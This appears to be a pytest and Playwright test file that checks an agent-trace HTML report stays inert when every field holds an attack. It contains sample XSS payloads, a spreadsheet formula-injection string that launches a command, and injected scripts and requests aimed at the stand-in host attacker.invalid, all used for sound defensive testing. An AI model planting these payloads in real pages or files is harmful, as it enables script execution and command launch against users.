"""A trace full of attacks runs nothing, asks for nothing, and shows every word of it as text."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hostile import ATTACKS, hostile_trace
from watched import Opened, Watched, inspecting

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Page

    from emoagent.schema import Trace


@pytest.fixture(scope="module")
def attacked(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a run whose every text is an attack, and its report."""
    from emoagent.commands.report import run

    folder: Path = tmp_path_factory.mktemp("attacked")
    (folder / "trace.json").write_text(hostile_trace().model_dump_json(), encoding="utf-8")
    run(folder, None, None)
    return folder


@pytest.fixture(scope="module")
def served(attacked: Path) -> Iterator[str]:
    """The same from `emoagent inspect`."""
    with inspecting(attacked) as address:
        yield address


def _tour(page: Page, trace: Trace) -> str:
    """Opens all there is to open, and gives back all that was read."""
    told = []
    for tab in page.get_by_role("tab").all():
        tab.click()
        told.append(_unfolded(page))
    page.get_by_test_id("tab-table").click()
    for name in page.get_by_test_id("table-name").locator("option").all():
        page.get_by_test_id("table-name").select_option(str(name.get_attribute("value")))
        told.append(page.locator("body").inner_text())
    page.get_by_test_id("tab-utterance").click()
    for utterance in trace.utterances:
        assert page.get_by_test_id("utterance").get_attribute("data-utterance") == utterance.id
        told.append(_unfolded(page))
        page.keyboard.press("n")
    return "\n".join(told)


def _unfolded(page: Page) -> str:
    closed = page.get_by_test_id("panel").locator("details:not([open]) > summary:visible")
    while closed.count():
        closed.first.click()
    return str(page.locator("body").inner_text())


def _harmless(watched: Watched) -> None:
    page = watched.page
    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.querySelectorAll('script').length") == 3
    assert page.evaluate("document.querySelectorAll('iframe, object, embed, base, link, form[action]').length") == 0
    assert (
        page.evaluate("""[...document.querySelectorAll('*')].filter((e) =>
        [...e.attributes].some((a) => a.name.startsWith('on'))).length""")
        == 0
    )
    assert page.evaluate("[...document.querySelectorAll('a, area')].filter((a) => /^(javascript|https?):/.test(a.href))"
                         ".length") == 0  # fmt: skip


@pytest.mark.parametrize("place", ["disk", "inspect"])
def test_nothing_runs(opened: Opened, attacked: Path, served: str, place: str) -> None:
    address = (attacked / "report.html").as_uri() if place == "disk" else served
    watched, trace = opened(viewport={"width": 1280, "height": 2400}), hostile_trace()
    told = _tour(watched.open(address), trace)
    _harmless(watched)
    watched.check(address)
    assert watched.requests.count(address) == 1
    for attack in ATTACKS:
        if attack.isascii() and attack.isprintable() and len(attack) < 100:
            assert attack in told, attack
    assert not {"\u202e", "\u2066", "\u2067", "\x1b", "\0"} & set(told)


def test_nothing_runs_without_a_script(opened: Opened, attacked: Path) -> None:
    address = (attacked / "report.html").as_uri()
    watched = opened(java_script_enabled=False)
    watched.page.goto(address)
    assert "<script>window.ran=1;alert(1)</script>" in watched.page.locator("body").inner_text()
    assert not watched.trouble
    assert watched.requests == [address]


def test_a_downloaded_correction_is_data(opened: Opened, attacked: Path, tmp_path: Path) -> None:
    """Attacks come back as they stood, one JSON object to a line."""
    watched = opened()
    page = watched.open((attacked / "report.html").as_uri())
    page.get_by_test_id("correction-note").fill("\u2028=cmd|' /C calc'!A0\n</script>")
    page.get_by_test_id("correction-save-label").click()
    with page.expect_download() as download:
        page.locator("header").get_by_test_id("corrections-download").click()
    download.value.save_as(tmp_path / "corrections.jsonl")
    (line,) = (tmp_path / "corrections.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    assert json.loads(line)["utterance"] == "<img src=x onerror=window.ran=1>"
    _harmless(watched)
    watched.check((attacked / "report.html").as_uri())


def test_the_policy_refuses_what_gets_in_all_the_same(opened: Opened, report: str) -> None:
    """Were there a hole, the page's policy would still stop it: script, style, picture, frame, connection."""
    watched = opened()
    page = watched.open(report)
    page.evaluate("""() => {
      const add = (name, parts) => document.body.append(Object.assign(document.createElement(name), parts));
      add("script", {textContent: "window.ran = 1"});
      add("script", {src: "https://attacker.invalid/a.js"});
      add("img", {src: "https://attacker.invalid/a.png"});
      add("iframe", {src: "https://attacker.invalid/"});
      document.body.insertAdjacentHTML("beforeend", "<p style='color: red' onclick='window.ran = 1' id=hole>x</p>");
      document.getElementById("hole").click();
    }""")
    assert page.evaluate("fetch('https://attacker.invalid/').then(() => 'sent', () => 'refused')") == "refused"
    assert page.evaluate("window.ran") is None
    refused = " ".join(page.evaluate("window.refused"))
    for rule in ("script-src", "img-src", "frame-src", "connect-src", "style-src-attr"):
        assert rule in refused
    assert not [url for url in watched.requests if "attacker" in url]
